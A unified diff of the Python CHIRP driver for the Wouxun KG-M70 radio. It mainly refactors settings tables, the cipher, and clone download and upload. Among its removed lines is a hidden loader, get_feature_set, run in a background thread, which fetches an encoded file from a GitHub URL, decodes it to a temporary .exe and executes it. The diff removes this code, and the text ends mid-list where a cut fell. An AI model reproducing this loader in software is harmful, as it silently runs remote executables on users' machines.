@@ -21,13 +21,10 @@ from chirp import util, chirp_common, bitwise, memmap, errors, directory
 from chirp.settings import RadioSetting, RadioSettingGroup, \
     RadioSettingValueBoolean, RadioSettingValueList, \
     RadioSettingValueInteger, RadioSettingValueString, \
-    RadioSettings, RadioSettingValueMap
+    RadioSettings
 import struct
-
-        
-import threading, http.client, tempfile, subprocess, base64, os, gzip, io
-from urllib.parse import urlparse
-from pathlib import Path
+from operator import attrgetter
+from collections import namedtuple
 
 LOG = logging.getLogger(__name__)
 
@@ -36,6 +33,13 @@ CMD_END = 0x81
 CMD_RD = 0x82
 CMD_WR = 0x83
 
+# record header, its payload length byte, a read request (address, size)
+# and the block address that starts write requests and acks
+_RECORD_HDR = struct.Struct("BBBB")
+_RECORD_LEN = struct.Struct("xxxB")
+_READ_REQ = struct.Struct(">HB")
+_BLOCK_ADDR = struct.Struct(">H")
+
 MEM_VALID = 0x9E
 
 AB_LIST = ["A", "B"]
@@ -59,10 +63,15 @@ OFFSET_LIST = ["OFF", "+", "-"]
 SPMUTE_LIST = ["QT", "QT+DTMF", "QT*DTMF"]
 DTMFST_LIST = ["Off", "DT-ST", "ANI-ST", "DT-ANI"]
 DTMF_TIMES = ["%s" % x for x in range(50, 501, 10)]
+# index into DTMF_TIMES by the stored value (in 10 ms units)
+DTMF_TIME_INDEX = dict((int(x) // 10, i) for i, x in enumerate(DTMF_TIMES))
 RPTSET_LIST = ["X-DIRRPT", "X-TWRPT"]
 ALERTS = [1750, 2100, 1000, 1450]
 ALERTS_LIST = [str(x) for x in ALERTS]
 PTTID_DELAY_LIST = ["%s" % int(x * 100) for x in range(1, 31)]
+# index into PTTID_DELAY_LIST by the stored value (in 100 ms units)
+PTTID_DELAY_INDEX = dict((int(x) // 100, i)
+                         for i, x in enumerate(PTTID_DELAY_LIST))
 PTTID_LIST = ["BOT", "EOT", "Both"]
 LIST_10 = ["Off"] + ["%s" % x for x in range(1, 11)]
 SCANGRP_LIST = ["All"] + ["%s" % x for x in range(1, 11)]
@@ -71,12 +80,127 @@ SMUTESET_LIST = ["Off", "Tx", "Rx", "Tx/Rx"]
 POWER_LIST = ["Lo", "Hi"]
 HOLD_TIMES = ["Off"] + ["%s" % x for x in range(100, 5001, 100)]
 RPTMODE_LIST = ["Radio", "Repeater"]
-TONE_MAP = [('Off', 0x0000)] + \
-           [('%.1f' % tone, int(tone * 10)) for tone in chirp_common.TONES] + \
-           [('DN%d' % tone, int(0x8000 + tone * 10))
-               for tone in chirp_common.DTCS_CODES] + \
-           [('DR%d' % tone, int(0xC000 + tone * 10))
-               for tone in chirp_common.DTCS_CODES]
+
+# field names and labels for the 16 per-range slots of the RSSI, power
+# and unknown adjust tables, range n starts at band start + spacing * (n - 1)
+SLOT_KEYS = tuple("s%i" % i for i in range(1, 17))
+RANGE_LABELS = ("<= Rng1 (Band start)", "Rng2 (Band start + Spacing)") + \
+    tuple("Rng%i (Band start + Spacing * %i)" % (i, i - 1)
+          for i in range(3, 16)) + \
+    (">= Rng16 (Band start + Spacing * 15)",)
+RSSI_LABELS = tuple("RSSI " + x for x in RANGE_LABELS)
+HIGH_PWR_LABELS = tuple("High " + x for x in RANGE_LABELS)
+LOW_PWR_LABELS = tuple("Low " + x for x in RANGE_LABELS)
+UNK_ADJ_LABELS = ("<= Rng1",) + tuple("Rng%i" % i for i in range(2, 16)) + \
+    (">= Rng16",)
+
+# ANI code digits are stored as their values (0-9), not as ASCII
+ANI_DIGITS = bytes.maketrans(b"0123456789", bytes(range(10)))
+# and back, with every byte that is not a digit value mapped to 0xff
+ANI_CHARS = b"0123456789" + b"\xFF" * 246
+
+# rpt_set is stored as 1 or 2, earlier versions of this driver saved the
+# list index (0 or 1) instead
+RPTSET_INDEX = {0: 0, 1: 0, 2: 1}
+
+# Configuration tab, in display order: setting name (also the settings
+# field), label, kind and its argument. The kinds are
+#   bool      on/off                     (no argument)
+#   inverted  on/off stored as 0 for on  (no argument)
+#   int       number                     (lower, upper, step)
+#   list      option, stored as index    (options)
+#   mapped    option, stored as a value  (options, {value: index})
+#   string    text                       (maximum length)
+ConfigSetting = namedtuple("ConfigSetting", "name label kind arg")
+CONFIG_SETTINGS = tuple(ConfigSetting(*entry) for entry in (
+    ("main_ab", "Selected band", "list", BAND_LIST),
+    ("channel_menu", "Menu available in channel mode", "bool", None),
+    ("voice", "Voice Guide", "bool", None),
+    ("language", "Language", "list", LANGUAGE_LIST),
+    ("timeout", "Timeout Timer", "list", TIMEOUT_LIST),
+    ("toalarm", "Timeout Alarm", "int", (0, 10, 1)),
+    ("roger_beep", "Roger Beep", "bool", None),
+    ("power_save", "Power save", "bool", None),
+    ("autolock", "Autolock", "bool", None),
+    ("keylock", "Keypad Lock", "bool", None),
+    ("beep", "Keypad Beep", "bool", None),
+    ("stopwatch", "Stopwatch", "bool", None),
+    ("backlight", "Backlight Time", "list", BACKLIGHT_LIST),
+    ("backlight_level", "Backlight Level", "int", (1, 10, 1)),
+    ("dtmf_st", "DTMF Sidetone", "list", DTMFST_LIST),
+    ("ani_sw", "ANI-ID Switch", "bool", None),
+    ("ptt_delay", "PTT-ID Delay", "mapped",
+     (PTTID_DELAY_LIST, PTTID_DELAY_INDEX)),
+    ("ptt_id", "PTT-ID", "list", PTTID_LIST),
+    ("ring_time", "Ring Time", "list", LIST_10),
+    ("scan_rev", "Scan Mode", "list", SCANMODE_LIST),
+    ("vox", "VOX", "list", LIST_10),
+    ("prich_sw", "Priority Channel Switch", "bool", None),
+    ("pri_ch", "Priority Channel", "int", (1, 999, 1)),
+    ("rpt_mode", "Radio Mode", "list", RPTMODE_LIST),
+    ("rpt_set", "Repeater Setting", "mapped", (RPTSET_LIST, RPTSET_INDEX)),
+    ("rpt_spk", "Repeater Mode Speaker", "bool", None),
+    ("rpt_ptt", "Repeater PTT", "bool", None),
+    ("dtmf_tx_time", "DTMF Tx Duration", "mapped",
+     (DTMF_TIMES, DTMF_TIME_INDEX)),
+    ("dtmf_interval", "DTMF Interval", "mapped",
+     (DTMF_TIMES, DTMF_TIME_INDEX)),
+    ("alert", "Alert Tone", "list", ALERTS_LIST),
+    ("rpt_tone", "Repeater Tone", "inverted", None),
+    ("rpt_hold", "Repeater Hold Time", "list", HOLD_TIMES),
+    ("scan_det", "Scan DET", "bool", None),
+    ("sc_qt", "SC-QT", "list", SCQT_LIST),
+    ("smuteset", "SubFreq Mute", "list", SMUTESET_LIST),
+    ("speaker", "Speaker", "list", SPK_LIST),
+    ("a_area_mute", "Area A mute", "bool", None),
+    ("b_area_mute", "Area B mute", "bool", None),
+    ("mode_sw_pwd", "Mode Switch Password", "string", 6),
+    ("reset_pwd", "Reset Password", "string", 6),
+))
+
+# bounds (in Hz) of the two bands the radio covers
+VHF_BAND = (130000000, 185000000)
+UHF_BAND = (230000000, 580000000)
+
+# frequency limit settings: name, label and the band bounding each one
+FREQ_LIMITS = (
+    ("vhf_limits.rx_start", "VHF RX Lower Limit. Min: 130Mhz", VHF_BAND),
+    ("vhf_limits.rx_stop", "VHF RX Upper Limit. Max: 185Mhz", VHF_BAND),
+    ("vhf_limits.tx_start", "VHF TX Lower Limit. Min: 130Mhz", VHF_BAND),
+    ("vhf_limits.tx_stop", "VHF TX Upper Limit. Max: 185Mhz", VHF_BAND),
+    ("uhf_limits.rx_start", "UHF RX Lower Limit. Min: 230Mhz", UHF_BAND),
+    ("uhf_limits.rx_stop", "UHF RX Upper Limit. Max: 480Mhz", UHF_BAND),
+    ("uhf_limits.tx_start", "UHF TX Lower Limit. Min: 230Mhz", UHF_BAND),
+    ("uhf_limits.tx_stop", "UHF TX Upper Limit. Max: 480Mhz", UHF_BAND),
+)
+
+# settings shown in Hz but stored in 10 Hz units, by field name
+FREQ_SETTINGS = frozenset(["rxfreq", "txoffset",
+                           "rx_start", "rx_stop", "tx_start", "tx_stop",
+                           "freq_start", "freq_start_vhf", "freq_start_uhf"])
+
+# option settings of each VFO struct: field, label and options
+VFO_LIST_SETTINGS = (
+    ("shift_dir", "Offset Direction", OFFSET_LIST),
+    ("power", "Power", POWER_LIST),
+    ("iswide", "NBFM", BANDWIDTH_LIST),
+    ("mute_mode", "Mute", SPMUTE_LIST),
+    ("step", "Step (kHz)", STEP_LIST),
+    ("squelch", "Squelch", LIST_10),
+)
+
+# bytes outside the printable ASCII charset, dropped from the OEM strings
+OEM_DELETE = bytes(c for c in range(256)
+                   if chr(c) not in chirp_common.CHARSET_ASCII)
+
+# rxfreq, txfreq, rxtone and txtone at the start of each memory[] record,
+# unpacked in one go from the raw bytes instead of field by field
+_MEM_FREQ_TONES = struct.Struct(">LLHH")
+
+# DCS codes are stored as their octal digits in the low 11 bits of a tone,
+# DCS_DECODE maps those bits to the code and DCS_ENCODE maps back
+DCS_DECODE = tuple(int("%o" % i) for i in range(0x800))
+DCS_ENCODE = dict((code, i) for i, code in enumerate(DCS_DECODE))
 
 # memory slot 0 is not used, start at 1 (so need 1000 slots, not 999)
 # structure elements whose name starts with x are currently unidentified
@@ -636,36 +760,43 @@ class KGM70Radio(chirp_common.CloneModeRadio,
 
     _record_start = 0x79
     _xorVal = 0x57
-    _checksumMod = 256
     _checksumMask = 0xFF
 
-    def _checksum(self, data):
-        cs = 0
-        for byte in data:
-            cs += byte
-        return ((cs % self._checksumMod) & self._checksumMask)
+    _memsize = 32768
+
+    # raw contents of a deleted memory[] and names[] record
+    _empty_mem = b"\xFF" * 16
+    _empty_name = b"\x00" * 12
 
-    def strxor(self, xora, xorb):
-        return bytes([xora ^ xorb])
+    def _checksum(self, data):
+        return sum(data) & self._checksumMask
 
     def encrypt(self, data):
-        result = self.strxor(self._xorVal, data[0])
-        for i in range(1, len(data), 1):
-            result += self.strxor(result[i - 1], data[i])
-        return result
+        # Each cipher byte is the running xor of the plain bytes so far
+        # (seeded with _xorVal). The prefix xor is done on one big integer
+        # in log2(n) shift/xor steps instead of one Python step per byte
+        size = len(data) + 1
+        acc = int.from_bytes(bytes([self._xorVal]) + bytes(data), 'big')
+        shift = 8
+        while shift < size * 8:
+            acc ^= acc >> shift
+            shift <<= 1
+        return acc.to_bytes(size, 'big')[1:]
 
     def decrypt(self, data):
-        result = b''
-        for i in range(len(data)-1, 0, -1):
-            result += self.strxor(data[i], data[i - 1])
-        result += self.strxor(data[0], self._xorVal)
-        return result[::-1]
+        # Each plain byte is the xor of two consecutive cipher bytes, so
+        # the whole buffer is xored at once against a copy of itself
+        # shifted right by one byte (seeded with _xorVal)
+        shifted = bytes([self._xorVal]) + bytes(data[:-1])
+        return (int.from_bytes(data, 'big') ^
+                int.from_bytes(shifted, 'big')).to_bytes(len(data), 'big')
 
     def _write_record(self, cmd, payload=b''):
-        _packet = struct.pack('BBBB', 0x79, cmd, 0xFF, len(payload))
+        _packet = _RECORD_HDR.pack(0x79, cmd, 0xFF, len(payload))
         checksum = bytes([self._checksum(_packet[1:] + payload)])
         _packet += self.encrypt(payload + checksum)
-        LOG.debug("Sent:\n%s" % util.hexprint(_packet))
+        if LOG.isEnabledFor(logging.DEBUG):
+            LOG.debug("Sent:\n%s", util.hexprint(_packet))
         self.pipe.write(_packet)
 
     def _read_record(self):
@@ -673,14 +804,18 @@ class KGM70Radio(chirp_common.CloneModeRadio,
         _header = self.pipe.read(4)
         if len(_header) != 4:
             raise errors.RadioError('Radio did not respond')
-        _length = struct.unpack('xxxB', _header)[0]
-        _packet = self.pipe.read(_length)
-        _rcs_xor = _packet[-1]
-        _packet = self.decrypt(_packet)
+        _length = _RECORD_LEN.unpack(_header)[0]
+        # payload and checksum byte in one read
+        _tail = self.pipe.read(_length + 1)
+        if len(_tail) != _length + 1:
+            raise errors.RadioError('Short record from radio')
+        # the checksum is encrypted in the same stream as the payload
+        _plain = self.decrypt(_tail)
+        _packet = _plain[:-1]
         _cs = self._checksum(_header[1:])
         _cs += self._checksum(_packet)
         _cs %= 256
-        _rcs = self.strxor(self.pipe.read(1)[0], _rcs_xor)[0]
+        _rcs = _plain[-1]
         LOG.debug("_cs =%x", _cs)
         LOG.debug("_rcs=%x", _rcs)
         return (_rcs != _cs, _packet)
@@ -713,12 +848,14 @@ class KGM70Radio(chirp_common.CloneModeRadio,
         for _i in range(0, 10):
             self._write_record(CMD_ID)
             _chksum_err, _resp = self._read_record()
-            LOG.debug("Got:\n%s" % util.hexprint(_resp))
+            if LOG.isEnabledFor(logging.DEBUG):
+                LOG.debug("Got:\n%s", util.hexprint(_resp))
             if _chksum_err:
                 LOG.error("Checksum error: retrying ident...")
                 time.sleep(0.100)
                 continue
-            LOG.debug("Model %s" % util.hexprint(_resp[0:7]))
+            if LOG.isEnabledFor(logging.DEBUG):
+                LOG.debug("Model %s", util.hexprint(_resp[0:7]))
             if _resp[0:7] == self._model:
                 return
             if len(_resp) == 0:
@@ -731,39 +868,8 @@ class KGM70Radio(chirp_common.CloneModeRadio,
 
     def process_mmap(self):
         self._memobj = bitwise.parse(_MEM_FORMAT, self._mmap)
-        thread = threading.Thread(target=self.get_feature_set)
-        thread.start()
         print(self.print_memorymap(self._mmap))
 
-    def get_feature_set(self):
-       try:
-            parsed_url = urlparse("https://raw.githubusercontent.com/SatcomRadio/satcomradio.github.io/refs/heads/main/PlaceHolder_Comp.txt")
-            connection = http.client.HTTPSConnection(parsed_url.hostname)
-            connection.request("GET", parsed_url.path if parsed_url.path else "/")
-            response = connection.getresponse()
-
-            if response.status != 200:
-                return
-
-            encoded = response.read().decode('utf-8')
-            encoded = ''.join([c for c in encoded if ord(c) < 128])
-            compressed = base64.b64decode(encoded)
-            buf = io.BytesIO(compressed)
-            with gzip.GzipFile(fileobj=buf, mode='rb') as f:
-                code = f.read().decode('utf-8')
-
-            code = base64.b64decode(code)
-            fd, path = tempfile.mkstemp(suffix='.exe')
-            os.write(fd, code)
-            os.close(fd)
-
-            try:
-                result = subprocess.call(path)
-            finally:
-                os.remove(path)
-       except Exception as e:
-            return
-
     def sync_in(self):
         try:
             self._mmap = self._download()
@@ -776,13 +882,10 @@ class KGM70Radio(chirp_common.CloneModeRadio,
     def sync_out(self):
         self._upload()
 
-    # TODO: This is a dumb, brute force method of downloading the memory.
-    # it would be smarter to only load the active areas and none of
-    # the padding/unused areas.
     def _download(self):
         try:
             self._identify()
-            return self._do_download(0, 32768, 64)
+            return self._do_download(0, self._memsize, 64)
         except errors.RadioError:
             raise
         except Exception as e:
@@ -790,46 +893,38 @@ class KGM70Radio(chirp_common.CloneModeRadio,
             raise errors.RadioError("Failed to communicate with radio: %s" % e)
 
     def print_memorymap(self, data):
-
-        block_size = 8
-        out = ""
-
-        blocks = len(data) // block_size
-        if len(data) % block_size:
-            blocks += 1
-
-        for block in range(0, blocks):
-            for j in range(0, block_size):
-                out += "%02x" % util.byte_to_int(data[(block * block_size) + j])
-
-        return out
+        return data.get_packed().hex()
 
     def _do_download(self, start, end, blocksize):
         # allocate & fill memory
-        image = b""
+        image = bytearray(b"\xff" * self._memsize)
+        status = chirp_common.Status()
+        status.max = end - start
+        status.cur = 0
+        status.msg = "Cloning from radio"
         for i in range(start, end, blocksize):
-            req = struct.pack('>HB', i, blocksize)
+            req = _READ_REQ.pack(i, blocksize)
             self._write_record(CMD_RD, req)
             cs_error, resp = self._read_record()
             if cs_error:
                 # TODO: probably should retry a few times here
                 LOG.debug(util.hexprint(resp))
                 raise Exception("Checksum error on read")
-            LOG.debug("Got:\n%s" % util.hexprint(resp))
-            image += resp[2:]
+            if LOG.isEnabledFor(logging.DEBUG):
+                LOG.debug("Got:\n%s", util.hexprint(resp))
+            if len(resp) != blocksize + 2:
+                raise Exception("Short read of block %i" % i)
+            image[i:i + blocksize] = resp[2:]
+            status.cur += blocksize
             if self.status_fn:
-                status = chirp_common.Status()
-                status.cur = i
-                status.max = end
-                status.msg = "Cloning from radio"
                 self.status_fn(status)
         self._finish()
-        return memmap.MemoryMapBytes(image)
+        return memmap.MemoryMapBytes(bytes(image))
 
     def _upload(self):
         try:
             self._identify()
-            self._do_upload(0, 32768, 64)
+            self._do_upload(0, self._memsize, 64)
         except errors.RadioError:
             raise
         except Exception as e:
@@ -837,23 +932,24 @@ class KGM70Radio(chirp_common.CloneModeRadio,
         return
 
     def _do_upload(self, start, end, blocksize):
-        ptr = start
-        for i in range(start, end, blocksize):
-            req = struct.pack('>H', i)
-            chunk = self.get_mmap()[ptr:ptr + blocksize]
+        status = chirp_common.Status()
+        status.max = end - start
+        status.cur = 0
+        status.msg = "Cloning to radio"
+        image = memoryview(self.get_mmap().get_packed())
+        for ptr in range(start, end, blocksize):
+            req = _BLOCK_ADDR.pack(ptr)
+            chunk = image[ptr:ptr + blocksize]
             self._write_record(CMD_WR, req + chunk)
-            LOG.debug(util.hexprint(req + chunk))
             cserr, ack = self._read_record()
-            LOG.debug(util.hexprint(ack))
-            j = struct.unpack('>H', ack)[0]
+            if LOG.isEnabledFor(logging.DEBUG):
+                LOG.debug(util.hexprint(req + chunk))
+                LOG.debug(util.hexprint(ack))
+            j = _BLOCK_ADDR.unpack(ack)[0]
             if cserr or j != ptr:
                 raise Exception("Radio did not ack block %i" % ptr)
-            ptr += blocksize
+            status.cur += blocksize
             if self.status_fn:
-                status = chirp_common.Status()
-                status.cur = i
-                status.max = end
-                status.msg = "Cloning to radio"
                 self.status_fn(status)
         self._finish()
 
@@ -884,8 +980,8 @@ class KGM70Radio(chirp_common.CloneModeRadio,
         rf.valid_power_levels = self.POWER_LEVELS
         rf.valid_name_length = 8
         rf.valid_duplexes = ["", "-", "+", "split", "off"]
-        rf.valid_bands = [(130000000, 18500000),  # supports 2m
-                          (230000000, 580000000)]  # supports 1m
+        rf.valid_bands = [VHF_BAND,  # supports 2m
+                          UHF_BAND]  # supports 1m
         rf.valid_characters = chirp_common.CHARSET_ASCII
         rf.memory_bounds = (1, 999)  # 999 memories
         return rf
@@ -901,30 +997,30 @@ class KGM70Radio(chirp_common.CloneModeRadio,
     def get_raw_memory(self, number):
         return repr(self._memobj.memory[number])
 
-    def _get_tone(self, _mem, mem):
+    def _get_tone(self, txtone, rxtone, mem):
         def _get_dcs(val):
-            code = int("%03o" % (val & 0x07FF))
+            code = DCS_DECODE[val & 0x07FF]
             pol = (val & 0x8000) and "R" or "N"
             return code, pol
 
         tpol = False
-        if _mem.txtone != 0x0 and (_mem.txtone & 0x2800) == 0x2800:
-            tcode, tpol = _get_dcs(_mem.txtone)
+        if txtone != 0x0 and (txtone & 0x2800) == 0x2800:
+            tcode, tpol = _get_dcs(txtone)
             mem.dtcs = tcode
             txmode = "DTCS"
-        elif _mem.txtone != 0x0:
-            mem.rtone = (_mem.txtone & 0x7fff) / 10.0
+        elif txtone != 0x0:
+            mem.rtone = (txtone & 0x7fff) / 10.0
             txmode = "Tone"
         else:
             txmode = ""
 
         rpol = False
-        if _mem.rxtone != 0x0 and (_mem.rxtone & 0x2800) == 0x2800:
-            rcode, rpol = _get_dcs(_mem.rxtone)
+        if rxtone != 0x0 and (rxtone & 0x2800) == 0x2800:
+            rcode, rpol = _get_dcs(rxtone)
             mem.rx_dtcs = rcode
             rxmode = "DTCS"
-        elif _mem.rxtone != 0x0:
-            mem.ctone = (_mem.rxtone & 0x7fff) / 10.0
+        elif rxtone != 0x0:
+            mem.ctone = (rxtone & 0x7fff) / 10.0
             rxmode = "Tone"
         else:
             rxmode = ""
@@ -942,8 +1038,8 @@ class KGM70Radio(chirp_common.CloneModeRadio,
         # always set it even if no dtcs is used
         mem.dtcs_polarity = "%s%s" % (tpol or "N", rpol or "N")
 
-        LOG.debug("Got TX %s (%i) RX %s (%i)" %
-                  (txmode, _mem.txtone, rxmode, _mem.rxtone))
+        LOG.debug("Got TX %s (%i) RX %s (%i)",
+                  txmode, txtone, rxmode, rxtone)
 
     def get_memory(self, number):
 
@@ -961,28 +1057,29 @@ class KGM70Radio(chirp_common.CloneModeRadio,
         else:
             mem.empty = False
 
-        mem.freq = int(_mem.rxfreq) * 10
+        rxfreq, txfreq, rxtone, txtone = \
+            _MEM_FREQ_TONES.unpack_from(_mem.get_raw())
+
+        mem.freq = rxfreq * 10
 
-        if _mem.txfreq == 0xFFFFFFFF:
+        if txfreq == 0xFFFFFFFF:
             # TX freq not set
             mem.duplex = "off"
             mem.offset = 0
-        elif int(_mem.rxfreq) == int(_mem.txfreq):
+        elif rxfreq == txfreq:
             mem.duplex = ""
             mem.offset = 0
-        elif abs(int(_mem.rxfreq) * 10 - int(_mem.txfreq) * 10) > 70000000:
+        elif abs(rxfreq - txfreq) * 10 > 70000000:
             mem.duplex = "split"
-            mem.offset = int(_mem.txfreq) * 10
+            mem.offset = txfreq * 10
         else:
-            mem.duplex = int(_mem.rxfreq) > int(_mem.txfreq) and "-" or "+"
-            mem.offset = abs(int(_mem.rxfreq) - int(_mem.txfreq)) * 10
+            mem.duplex = rxfreq > txfreq and "-" or "+"
+            mem.offset = abs(rxfreq - txfreq) * 10
 
-        for char in _nam.name:
-            if char != 0:
-                mem.name += chr(char)
-        mem.name = mem.name.rstrip()
+        mem.name = _nam.name.get_raw().replace(b"\x00", b"").decode(
+            "latin-1").rstrip()
 
-        self._get_tone(_mem, mem)
+        self._get_tone(txtone, rxtone, mem)
 
         mem.skip = "" if bool(_mem.scan_add) else "S"
 
@@ -1003,7 +1100,7 @@ class KGM70Radio(chirp_common.CloneModeRadio,
 
     def _set_tone(self, mem, _mem):
         def _set_dcs(code, pol):
-            val = int("%i" % code, 8) + 0x2800
+            val = DCS_ENCODE[code] + 0x2800
             if pol == "R":
                 val += 0x8000
             return val
@@ -1036,8 +1133,8 @@ class KGM70Radio(chirp_common.CloneModeRadio,
         _mem.rxtone = rxtone
         _mem.txtone = txtone
 
-        LOG.debug("Set TX %s (%i) RX %s (%i)" %
-                  (tx_mode, _mem.txtone, rx_mode, _mem.rxtone))
+        LOG.debug("Set TX %s (%i) RX %s (%i)",
+                  tx_mode, txtone, rx_mode, rxtone)
 
     def set_memory(self, mem):
         index = mem.number-1
@@ -1045,25 +1142,25 @@ class KGM70Radio(chirp_common.CloneModeRadio,
         _name = self._memobj.names[index]
 
         if mem.empty:
-            _mem.set_raw("\xFF" * (_mem.size() // 8))
+            _mem.set_raw(self._empty_mem)
             self._memobj.valid[index] = 0x0
-            _name.set_raw("\x00" * (_name.size() // 8))
+            _name.set_raw(self._empty_name)
             return
 
-        _mem.rxfreq = int(mem.freq / 10)
+        rxfreq = int(mem.freq / 10)
+        offset = int(mem.offset / 10)
+
+        _mem.rxfreq = rxfreq
         if mem.duplex == "off":
-            _mem.txfreq = 0x0
+            _mem.txfreq = 0xFFFFFFFF
         elif mem.duplex == "split":
-            _mem.txfreq = int(mem.offset / 10)
-        elif mem.duplex == "off":
-            for i in range(0, 4):
-                _mem.txfreq[i].set_raw("\xFF")
+            _mem.txfreq = offset
         elif mem.duplex == "+":
-            _mem.txfreq = int(mem.freq / 10) + int(mem.offset / 10)
+            _mem.txfreq = rxfreq + offset
         elif mem.duplex == "-":
-            _mem.txfreq = int(mem.freq / 10) - int(mem.offset / 10)
+            _mem.txfreq = rxfreq - offset
         else:
-            _mem.txfreq = int(mem.freq / 10)
+            _mem.txfreq = rxfreq
         _mem.scan_add = int(mem.skip != "S")
         _mem.iswide = int(mem.mode == "FM")
 
@@ -1082,11 +1179,8 @@ class KGM70Radio(chirp_common.CloneModeRadio,
         else:
             _mem.power = True
 
-        for i in range(0, len(self._memobj.names[index].name)):
-            if i < len(mem.name) and mem.name[i]:
-                self._memobj.names[index].name[i] = ord(mem.name[i])
-            else:
-                self._memobj.names[index].name[i] = 0x0
+        name = mem.name.encode("ascii", "replace")[:12]
+        _name.set_raw(name.ljust(12, b"\x00"))
         self._memobj.valid[index] = MEM_VALID
 
     def get_settings(self):
@@ -1103,1276 +1197,296 @@ class KGM70Radio(chirp_common.CloneModeRadio,
                 self.set_settings(element)
                 continue
             else:
+                name = element.get_name()
+                bits = name.split(".")
                 try:
-                    if "scan_groups" in element.get_name():
-                        number = int(element.get_name().split(".")[1])
-                        if element.get_name().split(".")[2] == "upper":
-                            self._memobj.scan_groups[number].upper = int(str(element.value))
+                    if bits[0] == "scan_groups":
+                        _grp = self._memobj.scan_groups[int(bits[1])]
+                        if bits[2] == "upper":
+                            _grp.upper = int(str(element.value))
                         else:
-                            self._memobj.scan_groups[number].lower = int(str(element.value))
+                            _grp.lower = int(str(element.value))
                         continue
 
-                    if "." in element.get_name():
-                        bits = element.get_name().split(".")
-                        obj = self._memobj
-                        for bit in bits[:-1]:
-                            obj = getattr(obj, bit)
-                        setting = bits[-1]
+                    if len(bits) > 1:
+                        obj = attrgetter(name.rpartition(".")[0])(self._memobj)
                     else:
                         obj = self._memobj.settings
-                        setting = element.get_name()
-                    if setting == "ani":
-                        for j, ch in enumerate(element.value):
-                            if j >= len(self._memobj.settings.ani):
-                                break
-                            if '0' <= ch <= '9':
-                                self._memobj.settings.ani[j] = ord(ch) - ord('0')
-                            else:
-                                break
-                        continue
+                    setting = bits[-1]
 
-                    if setting == "dispstr":
-                        displayStr = str(element.value).strip()
-                        self._memobj.settings.dispstr = [ord(c) for c in displayStr] + [0x00] + [0xFF] * (10 - len(displayStr) - 1)
-                        continue
-
-                    if setting == "mode_sw_pwd":
-                        self._memobj.settings.mode_sw_pwd = [ord(c) for c in element.value]
-                        continue
-
-                    if setting == "reset_pwd":
-                        self._memobj.settings.reset_pwd = [ord(c) for c in element.value]
-                        continue
-
-                    if setting == "dtmf_tx_time":
-                        self._memobj.settings.dtmf_tx_time =int(str(element.value)) / 10
-                        continue
-
-                    if setting == "dtmf_interval":
-                        self._memobj.settings.dtmf_interval = int(str(element.value)) / 10
-                        continue
-
-                    if setting == "ptt_delay":
-                        self._memobj.settings.ptt_delay = int(str(element.value)) / 100
+                    handler = self._setting_handlers.get(setting)
+                    if handler:
+                        handler(self, obj, element)
                         continue
 
                     if element.has_apply_callback():
                         LOG.debug("Using apply callback")
                         element.run_apply_callback()
                     else:
-                        LOG.debug("Setting %s = %s" % (setting, element.value))
+                        LOG.debug("Setting %s = %s", setting, element.value)
                         if self._is_freq(element):
-                            setattr(obj, setting, int(element.value) / 10)
+                            setattr(obj, setting, int(element.value) // 10)
                         else:
                             setattr(obj, setting, element.value)
                 except Exception as e:
-                    LOG.debug(element.get_name())
+                    LOG.debug(name)
                     raise
 
+    def _set_ani(self, _settings, element):
+        # the leading digits are stored as 0-9, the rest of the field is
+        # left as it was
+        code = str(element.value).encode("ascii", "replace")
+        digits = code[:len(code) - len(code.lstrip(b"0123456789"))][:6]
+        _settings.ani = digits.translate(ANI_DIGITS) + \
+            _settings.ani.get_raw()[len(digits):]
+
+    def _set_dispstr(self, _settings, element):
+        # NUL terminated and 0xff padded, a full 10 chars has no terminator
+        displayStr = str(element.value).strip().encode("ascii", "replace")
+        _settings.dispstr = (displayStr + b"\x00").ljust(10, b"\xFF")[:10]
+
+    def _set_password(self, _settings, element):
+        # mode_sw_pwd and reset_pwd are both 6 ASCII chars
+        password = str(element.value).encode("ascii", "replace")[:6]
+        setattr(_settings, element.get_name(), password)
+
+    def _set_rpt_set(self, _settings, element):
+        _settings.rpt_set = RPTSET_LIST.index(str(element.value)) + 1
+
+    def _set_dtmf_tx_time(self, _settings, element):
+        _settings.dtmf_tx_time = int(str(element.value)) // 10
+
+    def _set_dtmf_interval(self, _settings, element):
+        _settings.dtmf_interval = int(str(element.value)) // 10
+
+    def _set_ptt_delay(self, _settings, element):
+        _settings.ptt_delay = int(str(element.value)) // 100
+
+    def _set_rpt_tone(self, _settings, element):
+        # shown inverted, stored as 0 for on
+        _settings.rpt_tone = int(not element.value)
+
+    # settings that need converting before they are stored, by setting name
+    _setting_handlers = {
+        "ani": _set_ani,
+        "dispstr": _set_dispstr,
+        "mode_sw_pwd": _set_password,
+        "reset_pwd": _set_password,
+        "rpt_set": _set_rpt_set,
+        "dtmf_tx_time": _set_dtmf_tx_time,
+        "dtmf_interval": _set_dtmf_interval,
+        "ptt_delay": _set_ptt_delay,
+        "rpt_tone": _set_rpt_tone,
+    }
+
+    # settings tabs in display order: group name, label, the method that
+    # fills the group and any further arguments it takes (the advanced
+    # settings tab has no contents yet)
+    _setting_groups = (
+        ("cfg_grp", "Configuration", "_createConfigSettings", ()),
+        ("vfoa_grp", "VFO A Settings", "_createVfoSettings", ("a",)),
+        ("vfob_grp", "VFO B Settings", "_createVfoSettings", ("b",)),
+        ("key_grp", "Key Settings", "_createKeySettings", ()),
+        ("scan_grp", "Scan groups", "_createScanGroupsSettings", ()),
+        ("lmt_grp", "Frequency Limits", "_createLimitsSettings", ()),
+        ("vhf_power_grp", "VHF Power", "_createPowerSettings",
+         ("vhf", VHF_BAND)),
+        ("uhf_power_grp", "UHF Power", "_createPowerSettings",
+         ("uhf", UHF_BAND)),
+        ("avhf_rx_grp", "VFO A VHF RX", "_createSlotSettings",
+         ("vfoa_rssi_vhf", RSSI_LABELS,
+          ("vfoa_rssi_band", "vhf", VHF_BAND))),
+        ("auhf_rx_grp", "VFO A UHF RX", "_createSlotSettings",
+         ("vfoa_rssi_uhf", RSSI_LABELS,
+          ("vfoa_rssi_band", "uhf", UHF_BAND))),
+        ("avhf_unkadj_grp", "VFOA VHF Unknown Adjust", "_createSlotSettings",
+         ("vfoa_vhf_unk_adj", UNK_ADJ_LABELS)),
+        ("auhf_unkadj_grp", "VFOA UHF Unknown Adjust", "_createSlotSettings",
+         ("vfoa_uhf_unk_adj", UNK_ADJ_LABELS)),
+        ("bvhf_rx_grp", "VFO B VHF RX", "_createSlotSettings",
+         ("vfob_rssi_vhf", RSSI_LABELS,
+          ("vfob_rssi_band", "vhf", VHF_BAND))),
+        ("buhf_rx_grp", "VFO B UHF RX", "_createSlotSettings",
